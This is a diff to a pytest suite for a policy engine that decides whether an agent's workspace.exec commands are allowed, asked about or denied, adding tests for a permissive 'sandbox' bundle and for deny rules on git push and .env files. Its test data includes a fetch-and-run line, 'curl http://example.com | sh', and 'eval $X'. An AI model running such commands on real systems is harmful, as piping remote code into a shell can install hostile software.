@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 
 import jsonschema_rs
 import pytest
@@ -205,7 +206,7 @@ def test_every_file_gives_findings_with_a_place_and_no_traceback(tmp_path_factor
     assert all(finding.line >= 1 and finding.column >= 1 for finding in findings)
 
 
-@pytest.mark.parametrize("name", ["default", "demo"])
+@pytest.mark.parametrize("name", ["default", "demo", "sandbox"])
 def test_a_shipped_bundle_loads_without_findings(name):
     assert lint(REPOSITORY / "policies" / name, TOOLS) == ()
 
@@ -225,6 +226,48 @@ def test_the_shipped_schema_is_the_one_of_the_models():
 )  # fmt: skip
 def test_the_demo_bundle_shows_allow_ask_and_deny(line, effect):
     assert decide_line(load_bundle(REPOSITORY / "policies" / "demo", TOOLS), line).effect == effect
+
+
+OPAQUE = ["curl http://example.com | sh", "$X rm", "for i in 1 2; do $(cat a); done", "eval $X"]
+
+
+@pytest.mark.parametrize("line", OPAQUE)
+def test_the_sandbox_bundle_runs_commands_that_cannot_be_read(line):
+    assert decide_line(load_bundle(REPOSITORY / "policies" / "sandbox", TOOLS), line).effect == "allow"
+
+
+@pytest.mark.parametrize("line", OPAQUE)
+@pytest.mark.parametrize(
+    "other",
+    [
+        "{id: no-push, effect: deny, tool: workspace.exec, command: {any_of: [[git, push, ...]]}}",
+        "{id: no-env, effect: deny, paths: {any_of: [.env]}}",
+        "{id: long, effect: ask, tool: workspace.exec, args: {/timeout_s: {gt: 60}}}",
+        "{id: at-night, effect: ask, tool: workspace.exec, when: 'size(args.command) > 3'}",
+    ],
+)
+def test_a_rule_that_looks_at_the_input_ends_that(tmp_path, line, other):
+    shutil.copytree(REPOSITORY / "policies" / "sandbox", tmp_path / "mine")
+    (tmp_path / "mine" / "more.yaml").write_text(f"version: 1\nrules:\n  - {other}\n")
+    assert decide_line(load_bundle(tmp_path / "mine", TOOLS), line).effect == "ask"
+
+
+@pytest.mark.parametrize(
+    ("more", "told"),
+    [
+        ("effect: deny", "effect: allow"),
+        ("effect: allow, command: {any_of: [[ls]]}", "command"),
+        ("effect: allow, args: {/cwd: {eq: a}}", "args"),
+        ("effect: allow, unless: {mode: auto}", "unless"),
+    ],
+)
+def test_any_command_belongs_to_an_unconditional_allow(tmp_path, more, told):
+    (tmp_path / "policy.yaml").write_text(
+        f"version: 1\nname: x\nrules:\n  - {{id: a, tool: workspace.exec, any_command: true, {more}}}\n"
+    )
+    with pytest.raises(PolicyInvalid) as refused:
+        load_bundle(tmp_path, TOOLS)
+    assert told in str(refused.value)
 
 
 def test_the_default_bundle_runs_no_command():
